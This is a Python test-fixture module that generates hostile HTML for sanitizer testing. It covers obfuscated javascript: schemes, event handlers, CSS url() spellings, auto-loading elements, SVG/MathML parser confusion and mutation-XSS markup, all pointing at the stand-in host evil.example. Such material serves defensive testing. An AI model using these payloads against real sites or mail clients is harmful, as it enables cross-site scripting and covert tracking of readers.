"""Generated hostile HTML: event handlers, spellings of schemes, loading properties and elements, escapes, and markup on which
parsers disagree. `evil.example` is the attacker's host; a test may replace it.
"""

from itertools import product

PIXEL = "http://evil.example/p.png"
_HANDLERS_NAMES = (
    "onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut "
    "onbeforeinput onbeforematch onbeforepaste onbeforetoggle onbeforeunload onblur oncanplay oncanplaythrough "
    "oncancel onchange onclick onclose oncontentvisibilityautostatechange oncontextlost oncontextmenu oncopy "
    "oncuechange oncut ondblclick ondrag ondragend ondrop ondurationchange onemptied onended onerror onfocus "
    "onfocusin onformdata onfullscreenchange onhashchange oninput oninvalid onkeydown onload onloadeddata "
    "onloadstart onmessage onmouseenter onmousemove onmousewheel onpagehide onpageshow onpaste onpointerdown "
    "onpointerover onpopstate onprogress onreset onresize onscroll onscrollend onsearch onseeking onselect "
    "onselectionchange onslotchange onstalled onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchstart "
    "ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationstart "
    "onwheel"
)
HANDLERS = _HANDLERS_NAMES.split()
_PROPERTIES_NAMES = (
    "background background-image list-style list-style-image content cursor border-image border-image-source mask "
    "mask-image -webkit-mask -webkit-mask-image mask-border-source -webkit-mask-box-image filter backdrop-filter "
    "clip-path shape-outside offset-path marker-start fill stroke src -webkit-border-image -webkit-box-reflect"
)
PROPERTIES = _PROPERTIES_NAMES.split()
SPELLINGS = (
    f"url({PIXEL})",
    f'url("{PIXEL}")',
    f"url( '{PIXEL}' )",
    f"UrL({PIXEL})",
    f"u\\72 l({PIXEL})",
    f"\\000075\\000072\\00006c({PIXEL})",
    "url(\\68ttp://evil.example/p.png)",
    f"ur\\\nl({PIXEL})",
    f"/*a*/url(/*b*/{PIXEL})",
    f"image-set('{PIXEL}' 1x)",
    f"-webkit-image-set(url({PIXEL}) 1x)",
    f"image-set({PIXEL} type('image/png'))",
    f"image('{PIXEL}')",
    f"cross-fade(url({PIXEL}), red)",
    f"-webkit-cross-fade(url({PIXEL}), url({PIXEL}), 50%)",
    f"paint(x), url({PIXEL})",
    f"linear-gradient(red, blue), url({PIXEL})",
    f"url({PIXEL}#a) 2 2, auto",
    f"url({PIXEL}",
    "url(//evil.example/p.png)",
    f"src('{PIXEL}')",
    f"if(style(--x): url({PIXEL}); else: none)",
)
SCHEMES = (
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\rscript:alert(1)", "java\x00script:alert(1)", "\x1fjavascript:alert(1)",
    "\u2028javascript:alert(1)", "\ufeffjavascript:alert(1)", "javascript\t:alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)", "&#0000106avascript:alert(1)", "&#x6A&#x61&#x76&#x61script:alert(1)", "jav&#x09;ascript:alert(1)",
    "jav&NewLine;ascript:alert(1)", "javascript://%0aalert(1)", "javascript:/*http://evil.example/*/alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:application/xhtml+xml,<x/>", "data:,x", "view-source:http://evil.example/", "chrome://settings", "about:blank",
    "mailmsg:1", "qrc:/x", "ws://evil.example/", "ftp://evil.example/p", "gopher://evil.example/", "ldap://evil.example/",
    "jar:http://evil.example!/x", "mhtml:http://evil.example!x", "ms-office:ofe|u|http://evil.example/x", "ms-msdt:/id x",
    "steam://run", "\\\\\\evil.example\\x", "http\\://evil.example/", "ht tp://evil.example/", "https:/\\evil.example/",
)  # fmt: skip


def shapes() -> list[str]:
    """All generated vectors."""
    made = [*_handlers(), *_schemes(), *_styles(), *_sheets(), *_loaders(), *_conditional(), *_confused(), *_mutated()]
    return list(dict.fromkeys(made))


def _handlers() -> list[str]:
    """Event handlers in unusual spellings, on elements that the cleaner keeps and on elements that it drops."""
    dress = (
        "<p {0}=alert(1)>text</p>",
        "<img src=x {0}=alert(1)>",
        "<svg {0}=alert(1)>text</svg>",
        "<a href=http://evil.example/ {0}='alert(1)'>text</a>",
        "<input {0}=alert(1) autofocus>",
        "<table/{0}=alert(1)/><tr><td>text</table>",
        "<video {0}=alert(1) src=http://evil.example/v.mp4 autoplay></video>",
        "<body {0}=alert(1)><p>text</p></body>",
        "<div x='\"' {0}=alert(1) style=animation-name:x>text</div>",
        "<font color=red\x0c{0}=alert(1)>text</font>",
    )
    return [dress[number % len(dress)].format(name) for number, name in enumerate(HANDLERS)]


def _schemes() -> list[str]:
    holders = (
        '<a href="{}">text</a>',
        '<img src="{}">',
        '<a xlink:href="{0}" href="{0}">text</a>',
        '<img src=cid:a data-remote-src="{}">',
    )
    return [holders[number % len(holders)].format(scheme.replace('"', "&quot;")) for number, scheme in enumerate(SCHEMES)]


def _styles() -> list[str]:
    """Each loading CSS property with two spellings and each spelling with two properties, in attributes."""
    pairs = [(name, SPELLINGS[number % len(SPELLINGS)]) for number, name in enumerate(PROPERTIES)]
    pairs += [(name, SPELLINGS[(number * 7 + 3) % len(SPELLINGS)]) for number, name in enumerate(PROPERTIES)]
    pairs += list(product(("background-image", "list-style-image"), SPELLINGS))
    return [f'<p style="{name}:{value.replace(chr(34), "&quot;")}">text</p>' for name, value in pairs]


def _sheets() -> list[str]:
    rules = [
        *(f"p{{background:{spelling}}}" for spelling in SPELLINGS),
        *(f"{word} {spelling};" for word in ("@import", "@IMPORT", "@i\\6dport", "@import/**/") for spelling in SPELLINGS[:3]),
        f"@import url({PIXEL}) layer(x) supports(display:grid) screen;",
        f"@font-face{{font-family:t;src:local(x),url({PIXEL}) format('woff2')}}p{{font-family:t}}",
        f"@font-f\\61 ce{{font-family:t;src:url({PIXEL})}}*{{font-family:t}}",
        f"@counter-style c{{system:cyclic;symbols:url({PIXEL})}}p{{display:list-item;list-style:c}}",
        f"@container (width>1px){{p{{background:url({PIXEL})}}}}",
        f"@scope (body){{p{{background:url({PIXEL})}}}}",
        f"@starting-style{{p{{background:url({PIXEL})}}}}",
        f"@media print{{p{{background:url({PIXEL})}}}}",
        f"@media not all{{}}p{{background:url({PIXEL})}}",
        f"@document url({PIXEL}){{p{{color:red}}}}",
        f"@view-transition{{navigation:auto}}p{{background:url({PIXEL})}}",
        f"p{{--a:url({PIXEL});background:var(--a)}}",
        f"p{{background:url({PIXEL}) !important;color:red}}",
        f"p:has(b),p{{background:url({PIXEL})}}",
        f"::selection,p::first-letter,p{{background:url({PIXEL})}}",
        f"p{{color:red;}}/*<!--*/p{{background:url({PIXEL})}}/*-->*/",
        "p{color:red}<\\/style><img src=x onerror=alert(1)>",
        f"</style ><img src={PIXEL}><style>",
        f"<!--</style><img src={PIXEL}>-->",
        f"]]></style><img src={PIXEL}>",
    ]
    return [f"<style>{rule}</style><p>text <b>x</b></p>" for rule in rules]


def _loaders() -> list[str]:
    """Elements and attributes that load by themselves."""
    return [
        f"<img srcset='{PIXEL} 1x, {PIXEL}?2 2x'>",
        f"<img srcset='{PIXEL} 100w' sizes=100vw src=cid:x>",
        f"<img src=cid:x srcset={PIXEL}>",
        f"<img loading=eager fetchpriority=high crossorigin src={PIXEL}>",
        f"<img src\x0c=\x0c{PIXEL}>",
        f"<img src='{PIXEL}' src='cid:x'>",
        f"<img SRC={PIXEL}>",
        f"<img attributionsrc={PIXEL} src=cid:x>",
        f"<a href=http://evil.example/ ping={PIXEL} attributionsrc={PIXEL}>text</a>",
        f"<picture><source srcset={PIXEL} media='(min-width:1px)'><img src=cid:x></picture>",
        f"<picture><source srcset={PIXEL} type=image/png><source srcset={PIXEL}><img></picture>",
        f"<video poster={PIXEL}></video>",
        f"<video autoplay><source src={PIXEL} type=video/mp4><track default src={PIXEL}></video>",
        f"<audio autoplay preload=auto><source src={PIXEL}></audio>",
        f"<object data={PIXEL} type=image/png></object>",
        f"<object classid={PIXEL} codebase=http://evil.example/></object>",
        f"<object><param name=movie value={PIXEL}><embed src={PIXEL}></object>",
        f"<embed src={PIXEL} type=image/svg+xml>",
        f"<embed code={PIXEL}>",
        f"<applet archive={PIXEL} code=x></applet>",
        f"<iframe src={PIXEL} loading=eager></iframe>",
        f"<iframe srcdoc='&lt;img src={PIXEL}&gt;'></iframe>",
        f"<iframe src='data:text/html,<img src={PIXEL}>'></iframe>",
        f"<fencedframe src={PIXEL}></fencedframe>",
        f"<frameset onload=alert(1)><frame src={PIXEL}></frameset>",
        f"<input type=image src={PIXEL}>",
        f"<button type=submit formaction={PIXEL}>text</button>",
        f"<form id=f action={PIXEL}><input name=a value=b></form><input form=f type=submit autofocus>",
        f"<body background={PIXEL}>text</body>",
        f"<table background={PIXEL}><thead background={PIXEL}><tr background={PIXEL}><th background={PIXEL}>text</table>",
        f"<link rel=stylesheet href={PIXEL}>",
        f"<link rel='alternate stylesheet' href={PIXEL}><link rel=icon href={PIXEL}>",
        f"<link rel=preconnect href={PIXEL}><link rel=prefetch href={PIXEL}><link rel=prerender href={PIXEL}>",
        f"<link rel=modulepreload href={PIXEL}><link rel=manifest href={PIXEL}><link rel=preload as=font href={PIXEL}>",
        f"<link rel=preload as=image imagesrcset='{PIXEL} 1x'>",
        f"<meta http-equiv=refresh content='0; url={PIXEL}'>",
        f"<meta http-equiv=Refresh content='0.0;URL=\"{PIXEL}\"'>",
        f"<meta http-equiv=Link content='<{PIXEL}>; rel=preload; as=image'>",
        f"<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=default-style content=x><link rel=stylesheet href={PIXEL}>",
        '<meta http-equiv=content-security-policy content="img-src *"><meta http-equiv=x-dns-prefetch-control content=on>',
        "<base href=http://evil.example/><img src=p.png><link rel=stylesheet href=x.css>",
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{PIXEL}"]}}]}}</script>',
        f"<script type=module>import '{PIXEL}'</script>",
        f'<script type=importmap>{{"imports":{{"a":"{PIXEL}"}}}}</script>',
        f"<xml src={PIXEL} id=x></xml><span datasrc='#x' datafld=y dataformatas=html>text</span>",
        f"<portal src={PIXEL}></portal><webview src={PIXEL}></webview>",
        f"<layer src={PIXEL}></layer><ilayer src={PIXEL}></ilayer><sound src={PIXEL}></sound>",
        f"<div style='display:none'><img src={PIXEL}></div>",
        f"<model src={PIXEL}></model><source src={PIXEL}>",
    ]


def _conditional() -> list[str]:
    """Conditional comments and Office markup."""
    return [
        f"<!--[if mso]><img src={PIXEL}><![endif]-->",
        f"<!--[if !mso]><!--><img src={PIXEL}><!--<![endif]-->",
        "<!--[if IE]><script>alert(1)</script><![endif]--><p>text</p>",
        f"<v:rect fill=true><v:fill type=tile src={PIXEL} color=#fff/><v:textbox>text</v:textbox></v:rect>",
        f"<v:image src={PIXEL} xmlns:v='urn:schemas-microsoft-com:vml' style='behavior:url(#default#VML)'/>",
        f"<o:OfficeDocumentSettings><o:Link href={PIXEL}/></o:OfficeDocumentSettings><p>text</p>",
        f"<?import namespace=t implementation={PIXEL}?><t:set onbegin=alert(1)>text",
        f"<html xmlns:x='http://www.w3.org/1999/xhtml'><x:script src={PIXEL}></x:script><x:img src={PIXEL}/></html>",
    ]


def _confused() -> list[str]:
    """Foreign content (SVG, MathML) that switches between languages."""
    return [
        f"<svg><image xlink:href={PIXEL} /></svg>",
        f"<svg><feImage href={PIXEL} /></svg>",
        f"<svg><filter id=f><feImage xlink:href={PIXEL} /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
        f"<svg><use href={PIXEL}#a /></svg>",
        f"<svg><pattern id=p><image href={PIXEL} /></pattern></svg>",
        f"<svg><a><animate attributeName=href values='javascript:alert(1);{PIXEL}' /><text>text</text></a></svg>",
        f"<svg><set attributeName=href to=javascript:alert(1) /><image href={PIXEL} /></svg>",
        f"<svg><style>@import '{PIXEL}';</style></svg>",
        f"<svg><foreignObject><body background={PIXEL}><img src={PIXEL}></body></foreignObject></svg>",
        f"<svg><script href={PIXEL} /><script>alert(1)</script></svg>",
        f"<svg><title><img src={PIXEL} onerror=alert(1)></title></svg>",
        f"<svg><desc><style></desc><img src={PIXEL} onerror=alert(1)></style></svg>",
        f"<svg><?xml-stylesheet href='{PIXEL}'?></svg>",
        f"<svg><![CDATA[</svg><img src={PIXEL} onerror=alert(1)>]]>",
        f"<math><mi xlink:href={PIXEL}>text</mi><mglyph src={PIXEL}></math>",
        f"<math><mtext><mglyph><style></mtext><img src={PIXEL} onerror=alert(1)></style></math>",
        f"<math><mtext></p><style><img src='</style><img src={PIXEL} onerror=alert(1)>'></math>",
        f"<math><annotation-xml encoding=application/xhtml+xml><svg><style><!--</style><img src={PIXEL}>--></svg></math>",
        f"<math><semantics><annotation-xml><p><img src={PIXEL} onerror=alert(1)></p></annotation-xml></semantics></math>",
        f"<svg><svg><b></svg><style><img title='</style><img src={PIXEL} onerror=alert(1)>'></svg>",
        f"<math><svg><mtext><img src={PIXEL}></mtext></svg></math>",
    ]


def _mutated() -> list[str]:
    """Markup that is text when parsed once and markup when parsed again."""
    out = f"<img src={PIXEL} onerror=alert(1)>"
    names = "noscript noembed noframes xmp iframe textarea title style script template plaintext select option listing"
    holders = names.split()
    return [
        *(f"<{name}>{out}</{name}>" for name in holders),
        *(f"<{name}><p title='</{name}>{out}'></{name}>" for name in holders),
        *(f"&lt;{name}&gt;{out.replace('<', '&lt;')}" for name in ("p", "script", "style")),
        f"<p id='</p>{out}'>text</p>",
        f'<a title="&quot;>{out}" href=http://evil.example/>text</a>',
        f"<b title='`'><b title='`{out}'>text</b>",
        f"<form id=a><div></form><form><style></form>{out}</style>",
        f"<table><caption><svg><desc><table><style></table>{out}</style></table>",
        f"<select><template><style></select>{out}</style></template>",
        f"<select><iframe><style></select>{out}</style></iframe>",
        f"<a><table><a>{out}</table></a>",
        f"<p><table><tr><p>{out}</p></table>",
        f"<template><template></template>{out}</template>",
        f"<div><template shadowrootmode=open><img src={PIXEL}><slot></slot></template>text</div>",
        f"<!--{out}",
        f"<!--> {out} -->",
        f"<!--- > {out} --->",
        f"<! {out}>",
        f"</ {out}>",
        f"<?php {out} ?>",
        f"<%= {out} %>",
        f"<p/{out}",
        f"<p <img src={PIXEL}>>text</p>",
        f"<\x00img src={PIXEL}>",
        f"<im\x00g src={PIXEL}>",
        f"\uff1cimg src={PIXEL}\uff1e",
        f"<i\u0307mg src={PIXEL}>",
        f"<img/\x0bsrc={PIXEL}>",
        f"<a href='http://evil.example/?x=\n<b>{out}'>text</a>",
        "<p>" * 450 + out,
        f"<dl><dt><li><table><td>{out}",
        f"<frameset></frameset>{out}",
        f"<head><noscript><style></noscript>{out}</style></head>",
        f"<svg></svg><noscript><svg><style></noscript>{out}</style></svg>",
    ]
